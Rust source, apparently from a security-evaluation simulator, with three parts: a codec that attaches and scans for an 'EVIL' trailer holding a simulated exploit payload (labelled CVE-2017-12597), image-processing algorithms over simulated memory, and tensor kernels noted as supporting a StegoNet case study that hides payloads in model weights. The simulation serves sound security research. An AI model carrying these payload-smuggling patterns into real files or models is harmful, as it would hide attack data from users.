/// `EVIL` trailer anywhere in the byte stream. Returns the payload if a
/// well-formed one is found.
pub fn scan_payload(bytes: &[u8]) -> Option<ExploitPayload> {
    let pos = bytes.windows(4).rposition(|w| w == EVIL_MAGIC)?;
    let len = read_u32(bytes, pos + 4).ok()? as usize;
    let wire = bytes.get(pos + 8..pos + 8 + len)?;
    ExploitPayload::from_wire_bytes(wire)
}

/// Appends an `EVIL` trailer to arbitrary bytes (crafting non-image
/// malicious inputs).
pub fn attach_payload(bytes: &mut Vec<u8>, payload: &ExploitPayload) {
    append_trailer(bytes, Some(payload));
}

/// Encodes a numeric table as CSV text.
pub fn encode_csv(rows: &[Vec<f64>]) -> Vec<u8> {
    let mut out = String::new();
    for row in rows {
        let cells: Vec<String> = row.iter().map(|v| format!("{v}")).collect();
        out.push_str(&cells.join(","));
        out.push('\n');
    }
    out.into_bytes()
}

/// Decodes CSV text into numeric rows (non-numeric cells become 0).
pub fn decode_csv(bytes: &[u8]) -> Vec<Vec<f64>> {
    String::from_utf8_lossy(bytes)
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            l.split(',')
                .map(|c| c.trim().parse().unwrap_or(0.0))
                .collect()
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exploit::ExploitAction;

    fn sample_payload() -> ExploitPayload {
        ExploitPayload {
            cve: "CVE-2017-12597".into(),
            actions: vec![ExploitAction::CrashSelf],
        }
    }

    #[test]
    fn image_roundtrip_clean() {
        let mut img = Image::new(3, 2, 3);
        img.put(1, 1, 2, 77);
        let bytes = encode_image(&img, None);
        let (back, payload) = decode_image(&bytes).unwrap();
        assert_eq!(back, img);
        assert!(payload.is_none());
    }

    #[test]
    fn image_roundtrip_with_payload() {
        let img = Image::new(2, 2, 1);
        let bytes = encode_image(&img, Some(&sample_payload()));
        let (back, payload) = decode_image(&bytes).unwrap();
        assert_eq!(back, img);
        assert_eq!(payload.unwrap().cve, "CVE-2017-12597");
    }

    #[test]
    fn image_decode_errors() {
        assert_eq!(decode_image(b"JPEG"), Err(DecodeError::BadMagic));
        let mut bytes = encode_image(&Image::new(4, 4, 1), None);
        bytes.truncate(20);
        assert_eq!(decode_image(&bytes), Err(DecodeError::Truncated));
    }

    #[test]
    fn tensor_roundtrip_with_payload() {
        let t = Tensor::generate(&[2, 3], |i| i as f32 - 1.5);
        let bytes = encode_tensor(&t, Some(&sample_payload()));
        let (back, payload) = decode_tensor(&bytes).unwrap();
        assert_eq!(back, t);
        assert!(payload.is_some());
    }

    #[test]
    fn corrupt_payload_is_a_decode_error() {
        let img = Image::new(1, 1, 1);
        let mut bytes = encode_image(&img, Some(&sample_payload()));
        let n = bytes.len();
        bytes[n - 5] = b'!'; // smash the payload checksum
        assert_eq!(decode_image(&bytes), Err(DecodeError::BadPayload));
    }

    #[test]
    fn junk_trailer_is_ignored() {
        let img = Image::new(1, 1, 1);
        let mut bytes = encode_image(&img, None);
        bytes.extend_from_slice(b"garbage-trailer");
        let (_, payload) = decode_image(&bytes).unwrap();
        assert!(payload.is_none());
    }

    #[test]
    fn csv_roundtrip() {
        let rows = vec![vec![1.0, 2.5], vec![3.0, -4.0]];
        let bytes = encode_csv(&rows);
        assert_eq!(decode_csv(&bytes), rows);
        assert_eq!(
            decode_csv(b"a,b\n1,2\n"),
            vec![vec![0.0, 0.0], vec![1.0, 2.0]]
        );
    }
}
