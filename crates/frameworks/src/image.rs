//! Pixel-level image algorithms backing the `cvlite` APIs.
//!
//! These are real (if compact) implementations — separable Gaussian
//! blur, morphology, Sobel/Canny, bilinear resize, perspective warp,
//! histogram equalization, connected components, a sliding-window
//! detector — because the evaluation's compute costs and data volumes
//! must be driven by genuine data-dependent work, not constants.
//!
//! All functions are pure over [`Image`]; the execution layer moves the
//! bytes in and out of simulated process memory.

/// A dense H×W×C byte image (row-major, interleaved channels).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Image {
    /// Width in pixels.
    pub w: u32,
    /// Height in pixels.
    pub h: u32,
    /// Channel count (1 or 3).
    pub ch: u32,
    /// Pixel bytes, `h * w * ch` long.
    pub data: Vec<u8>,
}

impl Image {
    /// A black image of the given geometry.
    ///
    /// # Panics
    ///
    /// Panics when any dimension is zero.
    pub fn new(w: u32, h: u32, ch: u32) -> Image {
        assert!(w > 0 && h > 0 && ch > 0, "degenerate image");
        Image {
            w,
            h,
            ch,
            data: vec![0; (w * h * ch) as usize],
        }
    }

    /// Wraps existing bytes.
    ///
    /// # Panics
    ///
    /// Panics when `data.len() != w*h*ch`.
    pub fn from_bytes(w: u32, h: u32, ch: u32, data: Vec<u8>) -> Image {
        assert_eq!(data.len(), (w * h * ch) as usize, "byte count mismatch");
        Image { w, h, ch, data }
    }

    /// Pixel accessor (clamped to the border, the common CV convention).
    pub fn at(&self, x: i64, y: i64, c: u32) -> u8 {
        let x = x.clamp(0, self.w as i64 - 1) as u32;
        let y = y.clamp(0, self.h as i64 - 1) as u32;
        self.data[((y * self.w + x) * self.ch + c) as usize]
    }

    /// Mutable pixel write (ignores out-of-bounds coordinates).
    pub fn put(&mut self, x: u32, y: u32, c: u32, v: u8) {
        if x < self.w && y < self.h && c < self.ch {
            self.data[((y * self.w + x) * self.ch + c) as usize] = v;
        }
    }

    /// Total pixel-channel samples — the natural work-unit count.
    pub fn samples(&self) -> u64 {
        self.w as u64 * self.h as u64 * self.ch as u64
    }

    /// Mean intensity over all samples.
    pub fn mean(&self) -> f64 {
        if self.data.is_empty() {
            return 0.0;
        }
        self.data.iter().map(|&b| b as u64).sum::<u64>() as f64 / self.data.len() as f64
    }
}

fn convolve3(img: &Image, k: [[i32; 3]; 3], div: i32, offset: i32) -> Image {
    let mut out = Image::new(img.w, img.h, img.ch);
    for y in 0..img.h as i64 {
        for x in 0..img.w as i64 {
            for c in 0..img.ch {
                let mut acc = 0i32;
                for (dy, row) in k.iter().enumerate() {
                    for (dx, kv) in row.iter().enumerate() {
                        acc += *kv * img.at(x + dx as i64 - 1, y + dy as i64 - 1, c) as i32;
                    }
                }
                let v = (acc / div + offset).clamp(0, 255) as u8;
                out.put(x as u32, y as u32, c, v);
            }
        }
    }
    out
}

/// 3×3 Gaussian blur (kernel 1-2-1 ⊗ 1-2-1).
pub fn gaussian_blur(img: &Image) -> Image {
    convolve3(img, [[1, 2, 1], [2, 4, 2], [1, 2, 1]], 16, 0)
}

/// 3×3 box (mean) blur.
pub fn box_blur(img: &Image) -> Image {
    convolve3(img, [[1, 1, 1], [1, 1, 1], [1, 1, 1]], 9, 0)
}

/// 3×3 median blur.
pub fn median_blur(img: &Image) -> Image {
    let mut out = Image::new(img.w, img.h, img.ch);
    let mut window = [0u8; 9];
    for y in 0..img.h as i64 {
        for x in 0..img.w as i64 {
            for c in 0..img.ch {
                let mut i = 0;
                for dy in -1..=1 {
                    for dx in -1..=1 {
                        window[i] = img.at(x + dx, y + dy, c);
                        i += 1;
                    }
                }
                window.sort_unstable();
                out.put(x as u32, y as u32, c, window[4]);
            }
        }
    }
    out
}

/// 3×3 Laplacian edge response.
pub fn laplacian(img: &Image) -> Image {
    convolve3(img, [[0, 1, 0], [1, -4, 1], [0, 1, 0]], 1, 128)
}

/// 3×3 sharpening.
pub fn sharpen(img: &Image) -> Image {
    convolve3(img, [[0, -1, 0], [-1, 5, -1], [0, -1, 0]], 1, 0)
}

fn morph(img: &Image, take_max: bool) -> Image {
    let mut out = Image::new(img.w, img.h, img.ch);
    for y in 0..img.h as i64 {
        for x in 0..img.w as i64 {
            for c in 0..img.ch {
                let mut best = img.at(x, y, c);
                for dy in -1..=1i64 {
                    for dx in -1..=1i64 {
                        let v = img.at(x + dx, y + dy, c);
                        if (take_max && v > best) || (!take_max && v < best) {
                            best = v;
                        }
                    }
                }
                out.put(x as u32, y as u32, c, best);
            }
        }
    }
    out
}

/// Morphological erosion (3×3 min).
pub fn erode(img: &Image) -> Image {
    morph(img, false)
}

/// Morphological dilation (3×3 max).
pub fn dilate(img: &Image) -> Image {
    morph(img, true)
}

/// Morphology presets, as `cv2.morphologyEx` takes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MorphOp {
    /// Erode then dilate (removes speckle).
    Open,
    /// Dilate then erode (fills holes).
    Close,
    /// Dilate minus erode (edges).
    Gradient,
}

/// Composite morphology (`morphologyEx`).
pub fn morphology_ex(img: &Image, op: MorphOp) -> Image {
    match op {
        MorphOp::Open => dilate(&erode(img)),
        MorphOp::Close => erode(&dilate(img)),
        MorphOp::Gradient => {
            let d = dilate(img);
            let e = erode(img);
            let mut out = Image::new(img.w, img.h, img.ch);
            for i in 0..out.data.len() {
                out.data[i] = d.data[i].saturating_sub(e.data[i]);
            }
            out
        }
    }
}

/// BGR → single-channel grayscale (ITU-R 601 weights); a gray image is
/// returned unchanged.
pub fn cvt_color_to_gray(img: &Image) -> Image {
    if img.ch == 1 {
        return img.clone();
    }
    let mut out = Image::new(img.w, img.h, 1);
    for y in 0..img.h {
        for x in 0..img.w {
            let b = img.at(x as i64, y as i64, 0) as u32;
            let g = img.at(x as i64, y as i64, 1.min(img.ch - 1)) as u32;
            let r = img.at(x as i64, y as i64, 2.min(img.ch - 1)) as u32;
            out.put(x, y, 0, ((114 * b + 587 * g + 299 * r) / 1000) as u8);
        }
    }
    out
}

/// Gray → 3-channel by replication.
pub fn gray_to_bgr(img: &Image) -> Image {
    let mut out = Image::new(img.w, img.h, 3);
    for y in 0..img.h {
        for x in 0..img.w {
            let v = img.at(x as i64, y as i64, 0);
            for c in 0..3 {
                out.put(x, y, c, v);
            }
        }
    }
    out
}

/// Sobel gradient magnitude (gray output).
pub fn sobel(img: &Image) -> Image {
    let g = cvt_color_to_gray(img);
    let mut out = Image::new(g.w, g.h, 1);
    for y in 0..g.h as i64 {
        for x in 0..g.w as i64 {
            let gx = -(g.at(x - 1, y - 1, 0) as i32) + g.at(x + 1, y - 1, 0) as i32
                - 2 * g.at(x - 1, y, 0) as i32
                + 2 * g.at(x + 1, y, 0) as i32
                - g.at(x - 1, y + 1, 0) as i32
                + g.at(x + 1, y + 1, 0) as i32;
            let gy = -(g.at(x - 1, y - 1, 0) as i32)
                - 2 * g.at(x, y - 1, 0) as i32
                - g.at(x + 1, y - 1, 0) as i32
                + g.at(x - 1, y + 1, 0) as i32
                + 2 * g.at(x, y + 1, 0) as i32
                + g.at(x + 1, y + 1, 0) as i32;
            let mag = ((gx * gx + gy * gy) as f64).sqrt().min(255.0) as u8;
            out.put(x as u32, y as u32, 0, mag);
        }
    }
    out
}

/// Canny-style edge map: Gaussian smooth → Sobel → double threshold with
/// weak-edge promotion next to strong edges.
pub fn canny(img: &Image, low: u8, high: u8) -> Image {
    let mag = sobel(&gaussian_blur(img));
    let mut out = Image::new(mag.w, mag.h, 1);
    // Strong pass.
    for y in 0..mag.h {
        for x in 0..mag.w {
            if mag.at(x as i64, y as i64, 0) >= high {
                out.put(x, y, 0, 255);
            }
        }
    }
    // Weak pass: keep weak edges touching a strong one.
    for y in 0..mag.h as i64 {
        for x in 0..mag.w as i64 {
            let v = mag.at(x, y, 0);
            if v >= low && v < high {
                let near_strong =
                    (-1..=1).any(|dy| (-1..=1).any(|dx| out.at(x + dx, y + dy, 0) == 255));
                if near_strong {
                    out.put(x as u32, y as u32, 0, 255);
                }
            }
        }
    }
    out
}

/// Bilinear resize.
///
/// # Panics
///
/// Panics on zero target dimensions.
pub fn resize(img: &Image, new_w: u32, new_h: u32) -> Image {
    assert!(new_w > 0 && new_h > 0, "degenerate resize");
    let mut out = Image::new(new_w, new_h, img.ch);
    for y in 0..new_h {
        for x in 0..new_w {
            let sx = x as f64 * img.w as f64 / new_w as f64;
            let sy = y as f64 * img.h as f64 / new_h as f64;
            let x0 = sx.floor() as i64;
            let y0 = sy.floor() as i64;
            let fx = sx - x0 as f64;
            let fy = sy - y0 as f64;
            for c in 0..img.ch {
                let v00 = img.at(x0, y0, c) as f64;
                let v10 = img.at(x0 + 1, y0, c) as f64;
                let v01 = img.at(x0, y0 + 1, c) as f64;
                let v11 = img.at(x0 + 1, y0 + 1, c) as f64;
                let v = v00 * (1.0 - fx) * (1.0 - fy)
                    + v10 * fx * (1.0 - fy)
                    + v01 * (1.0 - fx) * fy
                    + v11 * fx * fy;
                out.put(x, y, c, v.round().clamp(0.0, 255.0) as u8);
            }
        }
    }
    out
}

/// Half-resolution pyramid step (blur + 2× downsample).
pub fn pyr_down(img: &Image) -> Image {
    resize(&gaussian_blur(img), (img.w / 2).max(1), (img.h / 2).max(1))
}

/// A 3×3 homography, row-major.
pub type Homography = [f64; 9];

/// Inverse-mapped perspective warp with bilinear sampling.
pub fn warp_perspective(img: &Image, inv_h: &Homography) -> Image {
    let mut out = Image::new(img.w, img.h, img.ch);
    for y in 0..img.h {
        for x in 0..img.w {
            let (fx, fy) = (x as f64, y as f64);
            let w = inv_h[6] * fx + inv_h[7] * fy + inv_h[8];
            if w.abs() < 1e-9 {
                continue;
            }
            let sx = (inv_h[0] * fx + inv_h[1] * fy + inv_h[2]) / w;
            let sy = (inv_h[3] * fx + inv_h[4] * fy + inv_h[5]) / w;
            if sx < 0.0 || sy < 0.0 || sx >= img.w as f64 || sy >= img.h as f64 {
                continue;
            }
            for c in 0..img.ch {
                out.put(x, y, c, img.at(sx.round() as i64, sy.round() as i64, c));
            }
        }
    }
    out
}

/// Global histogram equalization (per channel).
pub fn equalize_hist(img: &Image) -> Image {
    let mut out = img.clone();
    for c in 0..img.ch {
        let mut hist = [0u64; 256];
        for y in 0..img.h {
            for x in 0..img.w {
                hist[img.at(x as i64, y as i64, c) as usize] += 1;
            }
        }
        let total = (img.w * img.h) as u64;
        let mut cdf = [0u64; 256];
        let mut acc = 0;
        for (i, h) in hist.iter().enumerate() {
            acc += h;
            cdf[i] = acc;
        }
        for y in 0..img.h {
            for x in 0..img.w {
                let v = img.at(x as i64, y as i64, c) as usize;
                let eq = (cdf[v] * 255).checked_div(total).unwrap_or(0) as u8;
                out.put(x, y, c, eq);
            }
        }
    }
    out
}

/// Fixed binary threshold.
pub fn threshold(img: &Image, t: u8) -> Image {
    let mut out = img.clone();
    for b in &mut out.data {
        *b = if *b >= t { 255 } else { 0 };
    }
    out
}

/// Per-pixel absolute difference (geometry must match).
///
/// # Panics
///
/// Panics on geometry mismatch.
pub fn abs_diff(a: &Image, b: &Image) -> Image {
    assert_eq!((a.w, a.h, a.ch), (b.w, b.h, b.ch), "geometry mismatch");
    let mut out = Image::new(a.w, a.h, a.ch);
    for i in 0..out.data.len() {
        out.data[i] = a.data[i].abs_diff(b.data[i]);
    }
    out
}

/// Weighted blend `alpha*a + (1-alpha)*b`.
///
/// # Panics
///
/// Panics on geometry mismatch.
pub fn add_weighted(a: &Image, alpha: f64, b: &Image) -> Image {
    assert_eq!((a.w, a.h, a.ch), (b.w, b.h, b.ch), "geometry mismatch");
    let mut out = Image::new(a.w, a.h, a.ch);
    for i in 0..out.data.len() {
        let v = alpha * a.data[i] as f64 + (1.0 - alpha) * b.data[i] as f64;
        out.data[i] = v.round().clamp(0.0, 255.0) as u8;
    }
    out
}

/// Horizontal mirror.
pub fn flip_horizontal(img: &Image) -> Image {
    let mut out = Image::new(img.w, img.h, img.ch);
    for y in 0..img.h {
        for x in 0..img.w {
            for c in 0..img.ch {
                out.put(img.w - 1 - x, y, c, img.at(x as i64, y as i64, c));
            }
        }
    }
    out
}

/// Axis-aligned rectangle with integer coordinates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Rect {
    /// Left edge.
    pub x: u32,
    /// Top edge.
    pub y: u32,
    /// Width.
    pub w: u32,
    /// Height.
    pub h: u32,
}

/// Draws a 1-px rectangle outline in place (`cv2.rectangle`).
pub fn draw_rectangle(img: &mut Image, r: Rect, value: u8) {
    for x in r.x..(r.x + r.w).min(img.w) {
        for c in 0..img.ch {
            img.put(x, r.y, c, value);
            img.put(x, (r.y + r.h).saturating_sub(1), c, value);
        }
    }
    for y in r.y..(r.y + r.h).min(img.h) {
        for c in 0..img.ch {
            img.put(r.x, y, c, value);
            img.put((r.x + r.w).saturating_sub(1), y, c, value);
        }
    }
}

/// Stamps 5×7 filled blocks per character in place (`cv2.putText`
/// stand-in — the cost pattern matters, not typography).
pub fn put_text(img: &mut Image, text: &str, x: u32, y: u32, value: u8) {
    for (i, _) in text.chars().enumerate() {
        let gx = x + i as u32 * 6;
        for dy in 0..7 {
            for dx in 0..5 {
                for c in 0..img.ch {
                    img.put(gx + dx, y + dy, c, value);
                }
            }
        }
    }
}

/// Crops a sub-image, clamped to bounds.
pub fn crop(img: &Image, r: Rect) -> Image {
    let w = r.w.min(img.w.saturating_sub(r.x)).max(1);
    let h = r.h.min(img.h.saturating_sub(r.y)).max(1);
    let mut out = Image::new(w, h, img.ch);
    for y in 0..h {
        for x in 0..w {
            for c in 0..img.ch {
                out.put(x, y, c, img.at((r.x + x) as i64, (r.y + y) as i64, c));
            }
        }
    }
    out
}

/// Connected components over a binarized image: returns one bounding box
/// per white blob (4-connectivity) — `findContours`.
pub fn find_contours(img: &Image) -> Vec<Rect> {
    let g = cvt_color_to_gray(img);
    let mut visited = vec![false; (g.w * g.h) as usize];
    let mut boxes = Vec::new();
    for sy in 0..g.h {
        for sx in 0..g.w {
            let idx = (sy * g.w + sx) as usize;
            if visited[idx] || g.at(sx as i64, sy as i64, 0) < 128 {
                continue;
            }
            // BFS flood fill.
            let (mut min_x, mut min_y, mut max_x, mut max_y) = (sx, sy, sx, sy);
            let mut queue = vec![(sx, sy)];
            visited[idx] = true;
            while let Some((x, y)) = queue.pop() {
                min_x = min_x.min(x);
                min_y = min_y.min(y);
                max_x = max_x.max(x);
                max_y = max_y.max(y);
                let neighbors = [
                    (x.wrapping_sub(1), y),
                    (x + 1, y),
                    (x, y.wrapping_sub(1)),
                    (x, y + 1),
                ];
                for (nx, ny) in neighbors {
                    if nx < g.w && ny < g.h {
                        let nidx = (ny * g.w + nx) as usize;
                        if !visited[nidx] && g.at(nx as i64, ny as i64, 0) >= 128 {
                            visited[nidx] = true;
                            queue.push((nx, ny));
                        }
                    }
                }
            }
            boxes.push(Rect {
                x: min_x,
                y: min_y,
                w: max_x - min_x + 1,
                h: max_y - min_y + 1,
            });
        }
    }
    boxes
}

/// Sliding-window variance detector (`detectMultiScale` stand-in):
/// returns windows whose local contrast exceeds a threshold, scanned at
/// two pyramid scales.
pub fn detect_multiscale(img: &Image, window: u32, min_variance: f64) -> Vec<Rect> {
    let mut found = Vec::new();
    let mut scale_img = cvt_color_to_gray(img);
    let mut scale = 1u32;
    for _ in 0..2 {
        let step = (window / 2).max(1);
        let mut y = 0;
        while y + window <= scale_img.h {
            let mut x = 0;
            while x + window <= scale_img.w {
                let mut sum = 0f64;
                let mut sq = 0f64;
                for dy in 0..window {
                    for dx in 0..window {
                        let v = scale_img.at((x + dx) as i64, (y + dy) as i64, 0) as f64;
                        sum += v;
                        sq += v * v;
                    }
                }
                let n = (window * window) as f64;
                let var = sq / n - (sum / n) * (sum / n);
                if var >= min_variance {
                    found.push(Rect {
                        x: x * scale,
                        y: y * scale,
                        w: window * scale,
                        h: window * scale,
                    });
                }
                x += step;
            }
            y += step;
        }
        scale_img = pyr_down(&scale_img);
        scale *= 2;
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gradient(w: u32, h: u32) -> Image {
        let mut img = Image::new(w, h, 1);
        for y in 0..h {
            for x in 0..w {
                img.put(x, y, 0, ((x * 255) / w.max(1)) as u8);
            }
        }
        img
    }

    #[test]
    fn blur_preserves_geometry_and_reduces_contrast() {
        let mut img = Image::new(8, 8, 1);
        img.put(4, 4, 0, 255);
        let b = gaussian_blur(&img);
        assert_eq!((b.w, b.h, b.ch), (8, 8, 1));
        assert!(b.at(4, 4, 0) < 255, "peak spread out");
        assert!(b.at(3, 4, 0) > 0, "energy diffused");
    }

    #[test]
    fn erode_dilate_are_antitone() {
        let mut img = Image::new(6, 6, 1);
        img.put(3, 3, 0, 200);
        assert_eq!(erode(&img).at(3, 3, 0), 0, "lone bright pixel eroded");
        assert_eq!(dilate(&img).at(2, 2, 0), 200, "bright pixel dilated");
    }

    #[test]
    fn morphology_open_removes_speckle() {
        let mut img = Image::new(10, 10, 1);
        img.put(5, 5, 0, 255); // single-pixel noise
        let opened = morphology_ex(&img, MorphOp::Open);
        assert!(opened.data.iter().all(|&b| b == 0));
    }

    #[test]
    fn gray_conversion_weights() {
        let mut img = Image::new(1, 1, 3);
        img.put(0, 0, 0, 255); // blue only
        let g = cvt_color_to_gray(&img);
        assert_eq!(g.ch, 1);
        assert!((28..=30).contains(&g.at(0, 0, 0)), "0.114 * 255 ≈ 29");
        // Gray passthrough.
        assert_eq!(cvt_color_to_gray(&g), g);
    }

    #[test]
    fn sobel_fires_on_edges_only() {
        let img = gradient(16, 16);
        let s = sobel(&img);
        // Uniform columns: interior gradient constant and nonzero.
        assert!(s.at(8, 8, 0) > 0);
        let flat = Image::new(16, 16, 1);
        assert!(sobel(&flat).data.iter().all(|&b| b == 0));
    }

    #[test]
    fn canny_thresholds_promote_weak_edges() {
        let mut img = Image::new(16, 16, 1);
        for y in 0..16 {
            for x in 8..16 {
                img.put(x, y, 0, 255);
            }
        }
        let edges = canny(&img, 20, 100);
        let lit = edges.data.iter().filter(|&&b| b == 255).count();
        assert!(lit > 0, "vertical step edge detected");
    }

    #[test]
    fn resize_scales_geometry() {
        let img = gradient(16, 8);
        let r = resize(&img, 8, 4);
        assert_eq!((r.w, r.h), (8, 4));
        // Preserves the left-dark, right-bright structure.
        assert!(r.at(0, 2, 0) < r.at(7, 2, 0));
    }

    #[test]
    fn warp_identity_preserves_content() {
        let img = gradient(8, 8);
        let identity: Homography = [1.0, 0.0, 0.0, 0.0, 1.0, 0.0, 0.0, 0.0, 1.0];
        assert_eq!(warp_perspective(&img, &identity), img);
    }

    #[test]
    fn equalize_hist_stretches_range() {
        let mut img = Image::new(8, 8, 1);
        for y in 0..8 {
            for x in 0..8 {
                img.put(x, y, 0, 100 + ((x + y) % 8) as u8);
            }
        }
        let eq = equalize_hist(&img);
        let max = *eq.data.iter().max().unwrap();
        let min = *eq.data.iter().min().unwrap();
        assert!(max > 200 && min < 64, "range stretched: {min}..{max}");
    }

    #[test]
    fn threshold_binarizes() {
        let img = gradient(8, 1);
        let t = threshold(&img, 128);
        assert!(t.data.iter().all(|&b| b == 0 || b == 255));
    }

    #[test]
    fn find_contours_counts_blobs() {
        let mut img = Image::new(20, 20, 1);
        for y in 2..5 {
            for x in 2..5 {
                img.put(x, y, 0, 255);
            }
        }
        for y in 10..14 {
            for x in 12..17 {
                img.put(x, y, 0, 255);
            }
        }
        let boxes = find_contours(&img);
        assert_eq!(boxes.len(), 2);
        assert!(boxes.contains(&Rect {
            x: 2,
            y: 2,
            w: 3,
            h: 3
        }));
        assert!(boxes.contains(&Rect {
            x: 12,
            y: 10,
            w: 5,
            h: 4
        }));
    }

    #[test]
    fn detect_multiscale_finds_textured_windows() {
        let mut img = Image::new(32, 32, 1);
        // High-contrast checker patch in the top-left corner.
        for y in 0..8 {
            for x in 0..8 {
                img.put(x, y, 0, if (x + y) % 2 == 0 { 255 } else { 0 });
            }
        }
        let hits = detect_multiscale(&img, 8, 1000.0);
        assert!(!hits.is_empty());
        assert!(hits.iter().any(|r| r.x == 0 && r.y == 0));
    }

    #[test]
    fn drawing_mutates_in_place() {
        let mut img = Image::new(16, 16, 1);
        draw_rectangle(
            &mut img,
            Rect {
                x: 2,
                y: 2,
                w: 5,
                h: 5,
            },
            255,
        );
        assert_eq!(img.at(2, 2, 0), 255);
        assert_eq!(img.at(6, 4, 0), 255);
        assert_eq!(img.at(4, 4, 0), 0, "interior untouched");
        put_text(&mut img, "ab", 1, 9, 200);
        assert_eq!(img.at(1, 9, 0), 200);
    }

    #[test]
    fn crop_and_flip() {
        let img = gradient(8, 4);
        let c = crop(
            &img,
            Rect {
                x: 4,
                y: 0,
                w: 4,
                h: 4,
            },
        );
        assert_eq!((c.w, c.h), (4, 4));
        let f = flip_horizontal(&img);
        assert_eq!(f.at(0, 0, 0), img.at(7, 0, 0));
    }

    #[test]
    fn abs_diff_and_add_weighted() {
        let a = gradient(4, 4);
        let b = Image::new(4, 4, 1);
        let d = abs_diff(&a, &b);
        assert_eq!(d, a);
        let half = add_weighted(&a, 0.5, &b);
        assert_eq!(half.at(3, 0, 0), (a.at(3, 0, 0) as f64 / 2.0).round() as u8);
    }

    #[test]
    #[should_panic(expected = "geometry mismatch")]
    fn abs_diff_rejects_mismatched_shapes() {
        abs_diff(&Image::new(2, 2, 1), &Image::new(3, 2, 1));
    }
}
