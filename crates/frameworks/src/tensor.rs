//! Dense `f32` tensors and neural-network kernels for the ML frameworks
//! (`caffelite`, `torchlite`, `tflite`).
//!
//! Conv/pool/matmul/activation are implemented for real so that "data
//! processing" agents perform genuine data-dependent compute, and so the
//! StegoNet case study can hide payload bytes in model weights.

use std::fmt;

/// A dense row-major `f32` tensor.
#[derive(Debug, Clone, PartialEq)]
pub struct Tensor {
    /// Dimension sizes, outermost first.
    pub shape: Vec<u32>,
    /// Flat data, product-of-shape long.
    pub data: Vec<f32>,
}

impl Tensor {
    /// A zero tensor of the given shape.
    ///
    /// # Panics
    ///
    /// Panics on an empty shape or a zero dimension.
    pub fn zeros(shape: &[u32]) -> Tensor {
        assert!(!shape.is_empty(), "scalar tensors take shape [1]");
        assert!(shape.iter().all(|&d| d > 0), "zero dimension");
        Tensor {
            shape: shape.to_vec(),
            data: vec![0.0; shape.iter().map(|&d| d as usize).product()],
        }
    }

    /// Wraps existing data.
    ///
    /// # Panics
    ///
    /// Panics when the data length does not match the shape.
    pub fn from_data(shape: &[u32], data: Vec<f32>) -> Tensor {
        let expect: usize = shape.iter().map(|&d| d as usize).product();
        assert_eq!(data.len(), expect, "shape/data mismatch");
        Tensor {
            shape: shape.to_vec(),
            data,
        }
    }

    /// A tensor filled by `f(flat_index)` — handy for deterministic
    /// weights in tests and workloads.
    pub fn generate(shape: &[u32], f: impl Fn(usize) -> f32) -> Tensor {
        let mut t = Tensor::zeros(shape);
        for (i, v) in t.data.iter_mut().enumerate() {
            *v = f(i);
        }
        t
    }

    /// Element count.
    pub fn len(&self) -> usize {
        self.data.len()
    }

    /// True when the tensor has no elements (unreachable for valid shapes).
    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    /// Serializes to little-endian bytes (shape-free; callers keep shape).
    pub fn to_bytes(&self) -> Vec<u8> {
        self.data.iter().flat_map(|f| f.to_le_bytes()).collect()
    }

    /// Deserializes from little-endian bytes.
    ///
    /// # Panics
    ///
    /// Panics when byte length disagrees with the shape.
    pub fn from_bytes(shape: &[u32], bytes: &[u8]) -> Tensor {
        let expect: usize = shape.iter().map(|&d| d as usize).product();
        assert_eq!(bytes.len(), expect * 4, "byte/shape mismatch");
        let data = bytes
            .chunks_exact(4)
            .map(|c| f32::from_le_bytes([c[0], c[1], c[2], c[3]]))
            .collect();
        Tensor::from_data(shape, data)
    }

    /// Index of the maximum element (`argmax`); ties go to the first.
    pub fn argmax(&self) -> usize {
        self.data
            .iter()
            .enumerate()
            .max_by(|a, b| a.1.partial_cmp(b.1).unwrap_or(std::cmp::Ordering::Equal))
            .map(|(i, _)| i)
            .unwrap_or(0)
    }

    /// Sum of elements.
    pub fn sum(&self) -> f32 {
        self.data.iter().sum()
    }
}

impl fmt::Display for Tensor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Tensor{:?}", self.shape)
    }
}

/// 2-D valid convolution of a `[h, w]` input with a `[kh, kw]` kernel.
///
/// # Panics
///
/// Panics unless both tensors are rank-2 and the kernel fits.
pub fn conv2d(input: &Tensor, kernel: &Tensor) -> Tensor {
    assert_eq!(input.shape.len(), 2, "conv2d wants rank-2 input");
    assert_eq!(kernel.shape.len(), 2, "conv2d wants rank-2 kernel");
    let (h, w) = (input.shape[0] as usize, input.shape[1] as usize);
    let (kh, kw) = (kernel.shape[0] as usize, kernel.shape[1] as usize);
    assert!(kh <= h && kw <= w, "kernel larger than input");
    let (oh, ow) = (h - kh + 1, w - kw + 1);
    let mut out = Tensor::zeros(&[oh as u32, ow as u32]);
    for oy in 0..oh {
        for ox in 0..ow {
            let mut acc = 0.0;
            for ky in 0..kh {
                for kx in 0..kw {
                    acc += input.data[(oy + ky) * w + ox + kx] * kernel.data[ky * kw + kx];
                }
            }
            out.data[oy * ow + ox] = acc;
        }
    }
    out
}

/// Pooling mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PoolKind {
    /// Maximum over the window.
    Max,
    /// Mean over the window.
    Avg,
}

/// 2-D pooling with a square window and equal stride.
///
/// # Panics
///
/// Panics unless the input is rank-2 and `window > 0`.
pub fn pool2d(input: &Tensor, window: usize, kind: PoolKind) -> Tensor {
    assert_eq!(input.shape.len(), 2, "pool2d wants rank-2 input");
    assert!(window > 0, "zero pooling window");
    let (h, w) = (input.shape[0] as usize, input.shape[1] as usize);
    let (oh, ow) = ((h / window).max(1), (w / window).max(1));
    let mut out = Tensor::zeros(&[oh as u32, ow as u32]);
    for oy in 0..oh {
        for ox in 0..ow {
            let mut best = f32::NEG_INFINITY;
            let mut sum = 0.0;
            let mut n = 0;
            for ky in 0..window {
                for kx in 0..window {
                    let (y, x) = (oy * window + ky, ox * window + kx);
                    if y < h && x < w {
                        let v = input.data[y * w + x];
                        best = best.max(v);
                        sum += v;
                        n += 1;
                    }
                }
            }
            out.data[oy * ow + ox] = match kind {
                PoolKind::Max => best,
                PoolKind::Avg => sum / n as f32,
            };
        }
    }
    out
}

/// Matrix multiply of `[m, k] × [k, n]`.
///
/// # Panics
///
